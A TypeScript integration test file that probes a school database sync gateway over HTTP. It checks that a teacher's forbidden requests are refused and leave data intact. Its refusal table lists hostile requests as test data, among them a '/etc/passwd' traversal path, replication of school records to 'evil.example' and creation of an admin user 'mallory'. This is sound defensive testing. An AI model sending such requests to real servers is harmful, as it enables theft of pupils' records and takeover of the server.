/**
 * The school server as a teacher with a valid account would try it (issue 12), over HTTP against the real
 * server process on the embedded engine: every kind of request the allow-list admits works, everything
 * else is refused, and each refusal leaves the server up and the school's documents, security objects and
 * design documents as they were.
 */
import { mkdtemp, readFile } from 'node:fs/promises';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { basicAuth } from '../lib/sync/account';
import { databaseName, SYNCED } from '../lib/sync/school';
import { ADMIN, type RunningServer, runSyncServer, STAFF } from '../tests/support/sync-server';
import { startEmbeddedEngine } from './engine';
import { setupSchool } from './setup';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let server: RunningServer;
const EVENTS = databaseName('demo', 'events');
const STUDENTS = databaseName('demo', 'students');
const OTHER = databaseName('other', 'events');
const admin = basicAuth({ user: ADMIN.name, password: ADMIN.password });
const as = (name: string) => {
  const s = STAFF.find((x) => x.name === name)!;
  return basicAuth({ user: s.name, password: s.password });
};
const teacher = as('王老师');

beforeAll(async () => {
  server = await runSyncServer();
  // A school not yet encrypted (no keyring): its records here are plain, as before 加密旧数据; once a school has a
  // keyring the gateway takes nothing plain (server/sealedOnly.test.ts).
  await setupSchool({ url: server.url, school: 'demo', admin: ADMIN, staff: STAFF });
  await setupSchool({ url: server.url, school: 'other', admin: ADMIN, staff: [] });
  // Something of the school's to protect: a teacher's visit, a student, and the other school's record.
  await call(admin, 'PUT', `${EVENTS}/visit-0`, event('visit-0', '王老师'));
  // G1 is in 王老师's class (tests/support/sync-server.ts): a teacher reads and writes only their classes.
  await call(admin, 'PUT', `${STUDENTS}/G1`, { name: '张三', className: '七年级1班', updatedAt: 1 });
  await call(admin, 'PUT', `${OTHER}/o-1`, event('o-1', 'someone'));
}, 120_000);
afterAll(async () => {
  await server?.stop();
});

function event(id: string, author: string, over: Record<string, unknown> = {}) {
  return {
    _id: id,
    kind: 'homeVisit',
    studentId: 'G1',
    author,
    at: 1,
    recordedAt: 1,
    data: { method: '电话' },
    ...over,
  };
}

async function call(
  auth: string | undefined,
  method: string,
  path: string,
  body?: unknown,
  type = 'application/json',
) {
  const r = await fetch(`${server.url}${path}`, {
    method,
    headers: { ...(auth ? { authorization: auth } : {}), 'content-type': type },
    body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
  });
  const text = await r.text();
  let json: unknown;
  try {
    json = JSON.parse(text);
  } catch {}
  return { status: r.status, text, json: json as Record<string, unknown> & unknown[] };
}

/** What a refusal must leave alone, read as the server admin: every document (design ones too) and security object. */
async function snapshot() {
  const out: Record<string, unknown> = {};
  for (const db of [...SYNCED.map((c) => databaseName('demo', c)), OTHER]) {
    out[db] = {
      docs: (await call(admin, 'GET', `${db}/_all_docs?include_docs=true&conflicts=true`)).json,
      security: (await call(admin, 'GET', `${db}/_security`)).json,
      local: (await call(admin, 'GET', `${db}/_local/_security`)).json,
    };
  }
  out.dbs = (await call(admin, 'GET', '_all_dbs')).json;
  return out;
}

const up = async () => (await fetch(server.url)).status === 200;

/** A refusal in words: JSON with a reason, never a stack trace or a path on the server. */
function expectPlainError(r: { status: number; json: Record<string, unknown> }) {
  expect(r.status).toBeGreaterThanOrEqual(400);
  expect(typeof r.json?.error).toBe('string');
  expect(typeof r.json?.reason).toBe('string');
  expect(String(r.json.reason)).not.toMatch(/\bat \S+:\d+|node_modules|\/tmp\/|\/work\//);
}

const big = (bytes: number) => 'x'.repeat(bytes);
const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;

describe('the allow-list refuses, before the engine, everything staff may not ask', () => {
  // Each: a request as a teacher who belongs to the school, and the status it must get.
  const refused: [string, string, string, unknown?, number?][] = [
    // Security objects in every form (the first finding: a member could write the local document).
    [
      'PUT',
      `${EVENTS}/_local/_security`,
      '',
      { members: { names: ['王老师'] }, admins: { names: ['王老师'] } },
    ],
    ['GET', `${EVENTS}/_local/_security`, ''],
    ['PUT', `${EVENTS}/_security`, '', { admins: { names: ['王老师'] } }],
    ['GET', `${EVENTS}/_security`, ''],
    ['PUT', `${EVENTS}/_local/x`, '', { a: 1 }],
    // Design documents, and the server-side code in them.
    ['PUT', `${EVENTS}/_design/evil`, '', { validate_doc_update: 'function(){}' }],
    ['DELETE', `${EVENTS}/_design/baoxue`, ''],
    ['GET', `${EVENTS}/_design/baoxue`, ''],
    ['POST', `${EVENTS}/_bulk_docs`, '', { docs: [{ _id: '_design/evil', views: {} }] }, 201],
    ['POST', `${EVENTS}/_index`, '', { index: { fields: ['author'] }, ddoc: 'evil' }],
    ['POST', `${EVENTS}/_find`, '', { selector: {} }],
    ['POST', `${EVENTS}/_explain`, '', { selector: {} }],
    ['GET', `${EVENTS}/_design/baoxue/_view/x`, ''],
    ['POST', `${EVENTS}/_temp_view`, '', { map: 'function(d){emit(d._id)}' }],
    ['POST', `${EVENTS}/_design/baoxue/_update/u`, '', {}],
    ['GET', `${EVENTS}/_design/baoxue/_show/s`, ''],
    ['GET', `${EVENTS}/_design/nope/_list/l/v`, ''],
    ['GET', `${EVENTS}/_design/baoxue/_rewrite/x`, ''],
    ['POST', `${EVENTS}/_purge`, '', { 'visit-0': ['1-x'] }],
    ['POST', `${EVENTS}/_compact`, '', {}],
    ['POST', `${EVENTS}/_view_cleanup`, '', {}],
    // Change feeds the client never asks for (one of them ended the process).
    ['GET', `${EVENTS}/_changes?filter=nope/f`, ''],
    ['GET', `${EVENTS}/_changes?filter=_view&view=nope/v`, ''],
    ['GET', `${EVENTS}/_changes?doc_ids=["visit-0"]`, ''],
    ['GET', `${EVENTS}/_changes?feed=continuous`, ''],
    ['GET', `${EVENTS}/_changes?feed=eventsource`, ''],
    ['GET', `${EVENTS}/_changes?since=0&since=1`, ''],
    // Other ways to read or write.
    ['GET', `${EVENTS}/_all_docs`, ''],
    ['POST', `${EVENTS}/_all_docs`, '', { keys: ['_design/baoxue'] }],
    ['POST', `${EVENTS}/_all_docs`, '', { keys: ['visit-0'], startkey: '_' }],
    ['POST', `${EVENTS}/_bulk_get`, '', { docs: [{ id: 'visit-0' }] }],
    ['POST', `${EVENTS}/_revs_diff`, '', { 'visit-0': ['1-x'] }],
    ['GET', `${EVENTS}/visit-0?revs=true&open_revs=all`, ''],
    ['POST', EVENTS, '', event('posted', '王老师')],
    ['DELETE', `${EVENTS}/visit-0?rev=1-x`, ''],
    ['COPY', `${EVENTS}/visit-0`, ''],
    ['PUT', `${EVENTS}/visit-0/photo.jpg`, '', 'binary', undefined],
    ['GET', `${EVENTS}/visit-0/photo.jpg`, ''],
    [
      'POST',
      `${EVENTS}/_bulk_docs`,
      '',
      { new_edits: false, docs: [event('ne-1', '李主任', { _rev: '1-abc' })] },
    ],
    ['POST', `${EVENTS}/_bulk_docs`, '', { docs: [{ ...event('att-1', '王老师'), _attachments: {} }] }, 201],
    // Databases: creating, deleting, listing, another school's, the server's own.
    ['PUT', 'baoxue-demo-extra', ''],
    ['PUT', 'baoxue-demo-cases', ''],
    ['DELETE', EVENTS, ''],
    ['DELETE', `${EVENTS}/`, ''],
    ['GET', '_all_dbs', ''],
    ['GET', OTHER, ''],
    ['POST', `${OTHER}/_bulk_docs`, '', { docs: [event('o-2', '王老师')] }],
    ['GET', `${OTHER}/_changes`, ''],
    ['GET', 'baoxue_gateway', ''],
    ['GET', 'baoxue_gateway/_all_docs', ''],
    ['GET', '_users/_all_docs', ''],
    [
      'PUT',
      '_users/org.couchdb.user:mallory',
      '',
      { name: 'mallory', password: 'x', roles: ['_admin'], type: 'user' },
    ],
    ['GET', '_config', ''],
    ['PUT', '_config/admins/mallory', '', '"x"'],
    ['POST', '_replicate', '', { source: EVENTS, target: 'http://evil.example/x' }],
    ['GET', '_active_tasks', ''],
    ['GET', '_utils/', ''],
    ['GET', '_baoxue/audit', ''],
    ['GET', '%2e%2e/etc/passwd', ''],
    ['GET', `${EVENTS}/%E0%A4%A`, ''],
  ];

  it.each(refused)(
    '%s /%s%s: refused, the server up, nothing changed',
    async (method, path, _x, body, okStatus) => {
      const before = await snapshot();
      const r = await call(teacher, method, path, body);
      if (okStatus) {
        // Refused document by document, as CouchDB answers its rules (the push counts these as held back).
        expect(r.status).toBe(okStatus);
        expect(r.json).toMatchObject([{ error: 'forbidden', reason: expect.any(String) }]);
      } else expectPlainError(r);
      expect(await up()).toBe(true);
      expect(await snapshot()).toEqual(before);
    },
  );

  it('answers nobody without an account, and a wrong password like an unknown name', async () => {
    const before = await snapshot();
    for (const path of [EVENTS, `${EVENTS}/_changes`, `${EVENTS}/visit-0`, '_all_dbs'])
      expect((await call(undefined, 'GET', path)).status).toBe(401);
    expect((await call(undefined, 'PUT', 'new-db')).status).toBe(401);
    const wrong = await call(basicAuth({ user: '王老师', password: 'wrong-pw' }), 'GET', EVENTS);
    const unknown = await call(basicAuth({ user: 'nobody', password: 'wrong-pw' }), 'GET', EVENTS);
    expect([wrong.status, wrong.json]).toEqual([unknown.status, unknown.json]);
    expect(await snapshot()).toEqual(before);
  });
});

describe('what staff may ask, each kind in the allow-list', () => {
  it('GET / and GET /{db}: the welcome and the school database’s information', async () => {
    expect((await call(undefined, 'GET', '')).json).toMatchObject({ couchdb: 'Welcome' });
    const info = await call(teacher, 'GET', EVENTS);
    expect(info.status).toBe(200);
    expect(info.json).toMatchObject({ db_name: EVENTS });
    expect((await call(teacher, 'GET', databaseName('demo', 'nope' as never))).status).toBe(404);
  });

  it('_session: who is logged in (handed to the accounts)', async () => {
    const r = await call(teacher, 'GET', '_session');
    expect(r.json).toMatchObject({ userCtx: { name: '王老师', roles: ['baoxue-demo', 'teacher'] } });
  });

  it('/, _session and _baoxue/…: answered by the gateway itself, never by the allow-list', async () => {
    // server/allow.ts lists no rows for these: the gateway answers them before decide() (issue 14).
    expect((await call(undefined, 'HEAD', '')).status).toBe(200);
    expect((await call(teacher, 'POST', '', {})).status).toBe(403); // the root takes no writes
    expect((await call(teacher, 'DELETE', '_session')).status).toBe(200); // logging out, handed to the accounts
    expect((await call(teacher, 'GET', '_baoxue/audit')).status).toBe(403); // the server admin's
    expect((await call(teacher, 'GET', '_baoxue/nothing-here')).status).toBe(404);
    expect((await call(teacher, 'GET', '_baoxue/audit/x')).status).toBe(404);
  });

  it('_changes: the pull', async () => {
    const r = await call(
      teacher,
      'GET',
      `${EVENTS}/_changes?style=all_docs&feed=normal&include_docs=true&since=0&limit=100&seq_interval=100`,
    );
    expect(r.status).toBe(200);
    const ids = (r.json as unknown as { results: { id: string }[] }).results.map((x) => x.id);
    expect(ids).toContain('visit-0');
  });

  it('a long-poll waits for the next write and then brings it, with heartbeats while it waits', async () => {
    const now = await call(teacher, 'GET', `${EVENTS}/_changes?feed=normal&since=now`);
    const since = String((now.json as unknown as { last_seq: string | number }).last_seq);
    const started = Date.now();
    const waiting = fetch(
      `${server.url}${EVENTS}/_changes?feed=longpoll&include_docs=true&heartbeat=500&since=${since}`,
      {
        headers: { authorization: teacher },
      },
    ).then((r) => r.text());
    await new Promise((r) => setTimeout(r, 1500));
    expect((await call(as('张校长'), 'PUT', `${EVENTS}/lp-1`, event('lp-1', '张校长'))).status).toBe(201);
    const text = await waiting;
    expect(Date.now() - started).toBeGreaterThanOrEqual(1400);
    expect(text.startsWith('\n')).toBe(true); // a heartbeat came while it waited
    expect(JSON.parse(text).results.map((x: { id: string }) => x.id)).toEqual(['lp-1']);
    // With nothing new, it ends after its timeout with no results at the same position.
    const quiet = await call(
      teacher,
      'GET',
      `${EVENTS}/_changes?feed=longpoll&timeout=800&since=${JSON.parse(text).last_seq}`,
    );
    expect(quiet.json).toMatchObject({ results: [] });
  });

  it('wakes every device waiting on a database with the one write, each with the document', async () => {
    const now = await call(teacher, 'GET', `${EVENTS}/_changes?feed=normal&since=now`);
    const since = String((now.json as unknown as { last_seq: string | number }).last_seq);
    const poll = () =>
      fetch(`${server.url}${EVENTS}/_changes?feed=longpoll&include_docs=true&timeout=20000&since=${since}`, {
        headers: { authorization: teacher },
      }).then(
        async (r) => JSON.parse(await r.text()) as { results: { id: string; doc: { author: string } }[] },
      );
    // The first waits from where the database stands; the others arrive where its watcher already is.
    const first = poll();
    await new Promise((r) => setTimeout(r, 500));
    const others = [poll(), poll(), poll()];
    await new Promise((r) => setTimeout(r, 500));
    expect((await call(as('张校长'), 'PUT', `${EVENTS}/lp-many`, event('lp-many', '张校长'))).status).toBe(
      201,
    );
    for (const answer of await Promise.all([first, ...others]))
      expect(answer.results.map((x) => [x.id, x.doc.author])).toEqual([['lp-many', '张校长']]);
  });

  it('_all_docs with keys: the revisions of the ids the push writes', async () => {
    const r = await call(teacher, 'POST', `${EVENTS}/_all_docs?include_docs=true`, {
      keys: ['visit-0', 'missing'],
    });
    expect(r.status).toBe(200);
    expect((r.json as unknown as { rows: { key: string; doc?: { author: string } }[] }).rows).toMatchObject([
      { key: 'visit-0', doc: { author: '王老师' } },
      { key: 'missing', error: 'not_found' },
    ]);
  });

  it('_bulk_docs: the rules decide per document, answered in order, the rest written', async () => {
    const visit = (await call(teacher, 'GET', `${EVENTS}/visit-0`)).json;
    const r = await call(teacher, 'POST', `${EVENTS}/_bulk_docs`, {
      docs: [
        event('bulk-own', '王老师'),
        event('bulk-forged', '李主任'), // in someone else's name
        { ...visit, author: '赵老师' }, // editing it as someone else
        event('bulk-paper', '王老师', { kind: 'documentReceived' }), // a registrar's job
        event('bulk-own-2', '王老师'),
      ],
    });
    expect(r.status).toBe(201);
    const answers = r.json as unknown as { id: string; ok?: boolean; error?: string }[];
    expect(answers.map((x) => [x.id, x.ok ?? x.error])).toEqual([
      ['bulk-own', true],
      ['bulk-forged', 'forbidden'],
      ['visit-0', 'forbidden'],
      ['bulk-paper', 'forbidden'],
      ['bulk-own-2', true],
    ]);
    // Another teacher cannot edit a teacher's record even with its current revision.
    const own = (await call(teacher, 'GET', `${EVENTS}/bulk-own`)).json;
    const edit = await call(as('赵老师'), 'POST', `${EVENTS}/_bulk_docs`, {
      docs: [{ ...own, author: '赵老师' }],
    });
    expect(edit.json).toMatchObject([{ id: 'bulk-own', error: 'forbidden' }]);
    // An out-of-date revision is a conflict, as CouchDB answers it.
    const stale = await call(teacher, 'POST', `${EVENTS}/_bulk_docs`, {
      docs: [{ ...own, _rev: '1-0123456789abcdef0123456789abcdef' }],
    });
    expect(stale.json).toMatchObject([{ id: 'bulk-own', error: 'conflict' }]);
    // A registrar writes a student; a teacher may not.
    expect(
      (await call(teacher, 'POST', `${STUDENTS}/_bulk_docs`, { docs: [{ _id: 'G2', updatedAt: 1 }] })).json,
    ).toMatchObject([{ error: 'forbidden' }]);
    expect(
      (await call(as('李主任'), 'POST', `${STUDENTS}/_bulk_docs`, { docs: [{ _id: 'G2', updatedAt: 1 }] }))
        .json,
    ).toMatchObject([{ id: 'G2', ok: true }]);
  });

  it('GET and PUT /{db}/{docid}: one ordinary document, through the same rules', async () => {
    expect((await call(teacher, 'GET', `${EVENTS}/visit-0`)).json).toMatchObject({ _id: 'visit-0' });
    expect((await call(teacher, 'PUT', `${EVENTS}/put-1`, event('put-1', '王老师'))).status).toBe(201);
    const forged = await call(teacher, 'PUT', `${EVENTS}/put-2`, event('put-2', '李主任'));
    expect(forged.status).toBe(403);
    expect(forged.json.reason).toContain('author');
  });
});

describe('limits', () => {
  it('refuses a document over 1 MB, alone or in a batch, and deeply nested JSON', async () => {
    const before = await snapshot();
    const doc = event('huge-1', '王老师', { data: { note: big(1_100_000) } });
    expect((await call(teacher, 'PUT', `${EVENTS}/huge-1`, doc)).status).toBe(413);
    expect((await call(teacher, 'POST', `${EVENTS}/_bulk_docs`, { docs: [doc] })).status).toBe(413);
    expect((await call(admin, 'PUT', `${EVENTS}/huge-1`, doc)).status).toBe(413);
    const nested = await call(
      teacher,
      'POST',
      `${EVENTS}/_bulk_docs`,
      `{"docs":[{"_id":"n","data":${deep(100)}}]}`,
    );
    expect(nested.status).toBe(400);
    expectPlainError(nested);
    expect((await call(admin, 'POST', `${EVENTS}/_bulk_docs`, `{"docs":${deep(5000)}}`)).status).toBe(400);
    expect(await snapshot()).toEqual(before);
  });

  it('refuses a body over 16 MB while it streams in, without taking it into memory', async () => {
    const rss = async () =>
      Number(/VmRSS:\s+(\d+)/.exec(await readFile(`/proc/${server.process.pid}/status`, 'utf8'))![1]) * 1024;
    const before = await rss();
    // Declared up front: refused at once.
    expect(await stream({ 'content-length': String(20 * 1024 * 1024) }, 0)).toBe(413);
    // Chunked (no length given): refused once 16 MB have come, although the sender would send 200 MB.
    expect(await stream({ 'transfer-encoding': 'chunked' }, 200)).toBe(413);
    expect(await rss()).toBeLessThan(before + 120 * 1024 * 1024);
    expect(await up()).toBe(true);
  });

  it('answers a malformed body with a reason and no stack trace, for staff and for the admin', async () => {
    for (const auth of [teacher, admin]) {
      for (const body of ['{"docs":[null]}', '{"docs":5}', '{"docs":[1,"a"]}', '{nope', '', 'null']) {
        const r = await call(auth, 'POST', `${EVENTS}/_bulk_docs`, body);
        expectPlainError(r);
        expect(r.status).toBeLessThan(500);
      }
    }
    expect(await up()).toBe(true);
  });
});

/** Sends a body in 1 MB chunks (up to `chunks`) until the server answers; resolves with its status. */
function stream(headers: Record<string, string>, chunks: number): Promise<number> {
  return new Promise((resolve, reject) => {
    const url = new URL(`${server.url}${EVENTS}/_bulk_docs`);
    const req = request(
      {
        host: url.hostname,
        port: url.port,
        path: url.pathname,
        method: 'POST',
        headers: { authorization: teacher, 'content-type': 'application/json', ...headers },
      },
      (res) => {
        answered = true;
        res.resume();
        resolve(res.statusCode ?? 0);
      },
    );
    let answered = false;
    req.on('error', (e) => setTimeout(() => reject(e), 2000)); // a reset after the answer is expected
    const chunk = Buffer.alloc(1024 * 1024, 0x20);
    let sent = 0;
    // One chunk per turn of the event loop, so the server's answer is read as soon as it comes and the
    // sending stops there (a client still writing when the server closes gets EPIPE and loses the answer).
    const pump = () => {
      if (answered) return;
      if (sent >= chunks) return void req.end();
      sent++;
      if (!req.write(chunk)) req.once('drain', () => setImmediate(pump));
      else setImmediate(pump);
    };
    if (chunks) pump();
    else req.flushHeaders();
  });
}

describe('the admin, the engine, the audit log', () => {
  it('stores an admin’s new_edits:false update of an existing document (server-to-server replication)', async () => {
    const put = await call(admin, 'PUT', `${EVENTS}/repl-1`, event('repl-1', '王老师'));
    const rev1 = String(put.json.rev);
    const r = await call(admin, 'POST', `${EVENTS}/_bulk_docs`, {
      new_edits: false,
      docs: [
        {
          ...event('repl-1', '王老师', { data: { method: '上门' } }),
          _rev: '2-abc123',
          _revisions: { start: 2, ids: ['abc123', rev1.slice(2)] },
        },
      ],
    });
    expect(r.status).toBe(201);
    expect((await call(admin, 'GET', `${EVENTS}/repl-1`)).json).toMatchObject({
      _rev: '2-abc123',
      data: { method: '上门' },
    });
  });

  it('survives a server admin’s request that ended the old server’s process', async () => {
    for (const path of [
      `${EVENTS}/_changes?filter=nope/f`,
      `${EVENTS}/_design/nope/_list/l/v`,
      `${EVENTS}/_design/nope/_show/s`,
    ])
      expect((await call(admin, 'GET', path)).status).toBeGreaterThanOrEqual(400);
    expect(await up()).toBe(true);
  });

  it('records each accepted write (who, when, which record, which fields) for the admin only, without values', async () => {
    const visit = event('audit-1', '王老师', { data: { method: '上门', situation: '家长同意送孩子回校' } });
    const w = await call(teacher, 'PUT', `${EVENTS}/audit-1`, visit);
    const edit = await call(teacher, 'PUT', `${EVENTS}/audit-1`, {
      ...visit,
      _rev: w.json.rev,
      data: { method: '电话', situation: '家长同意送孩子回校' },
    });
    expect(edit.status).toBe(201);
    expect((await call(teacher, 'GET', '_baoxue/audit')).status).toBe(403);
    const log = await call(admin, 'GET', '_baoxue/audit');
    expect(log.status).toBe(200);
    const lines = log.text
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.filter((l) => l.id === 'audit-1')).toMatchObject([
      {
        who: '王老师',
        db: EVENTS,
        id: 'audit-1',
        rev: w.json.rev,
        fields: ['at', 'author', 'data', 'kind', 'recordedAt', 'studentId'],
      },
      { who: '王老师', db: EVENTS, id: 'audit-1', rev: edit.json.rev, fields: ['data.method'] },
    ]);
    expect(log.text).not.toContain('家长同意');
    expect(log.text).not.toContain('电话');
    // A refused write is not in it.
    await call(teacher, 'PUT', `${EVENTS}/audit-2`, event('audit-2', '李主任'));
    expect((await call(admin, 'GET', '_baoxue/audit')).text).not.toContain('audit-2');
  });

  it('keeps serving the school’s staff after a restart with another admin password; the old one stops working', async () => {
    const dir = server.dir;
    await server.stop();
    server = await runSyncServer({ dir, adminPassword: 'another-admin-pw' });
    expect((await call(teacher, 'GET', EVENTS)).status).toBe(200);
    expect((await call(teacher, 'GET', `${EVENTS}/visit-0`)).status).toBe(200);
    expect((await call(admin, 'GET', '_all_dbs')).status).toBe(401);
    expect(
      (await call(basicAuth({ user: ADMIN.name, password: 'another-admin-pw' }), 'GET', '_all_dbs')).status,
    ).toBe(200);
    await server.stop();
    server = await runSyncServer({ dir });
  });
});

describe('the same gateway in front of another engine (--upstream)', () => {
  it('keeps its accounts, rules and allow-list in front of an engine at a URL', async () => {
    // A CouchDB-protocol engine on a TCP port, as CouchDB would be (CouchDB itself is not on this machine).
    const engine = await startEmbeddedEngine(await mkdtemp(join(tmpdir(), 'baoxue-upstream-')), 0);
    const gateway = await runSyncServer({
      args: ['--upstream', `http://127.0.0.1:${engine.port}/`, '--upstream-admin', 'couch-admin:couch-pw'],
    });
    try {
      await setupSchool({ url: gateway.url, school: 'demo', admin: ADMIN, staff: STAFF });
      // The child the teacher writes about, in their class.
      await engine.engine.json('PUT', `/${STUDENTS}/G1`, { className: '七年级1班', updatedAt: 1 });
      const at = (path: string, init: RequestInit = {}) =>
        fetch(`${gateway.url}${path}`, {
          ...init,
          headers: { authorization: teacher, 'content-type': 'application/json' },
        });
      const written = await at(`${EVENTS}/_bulk_docs`, {
        method: 'POST',
        body: JSON.stringify({ docs: [event('up-1', '王老师'), event('up-2', '李主任')] }),
      });
      expect(await written.json()).toMatchObject([
        { id: 'up-1', ok: true },
        { id: 'up-2', error: 'forbidden' },
      ]);
      expect((await at(`${EVENTS}/_local/_security`, { method: 'PUT', body: '{}' })).status).toBe(403);
      // It is the engine at the URL that holds the record, and the gateway's accounts.
      expect((await engine.engine.json('GET', `/${EVENTS}/up-1`)).json).toMatchObject({ author: '王老师' });
      expect(
        (await engine.engine.json('GET', `/baoxue_gateway/${encodeURIComponent('account:王老师')}`)).status,
      ).toBe(200);
    } finally {
      await gateway.stop();
      await engine.close();
    }
  });
});
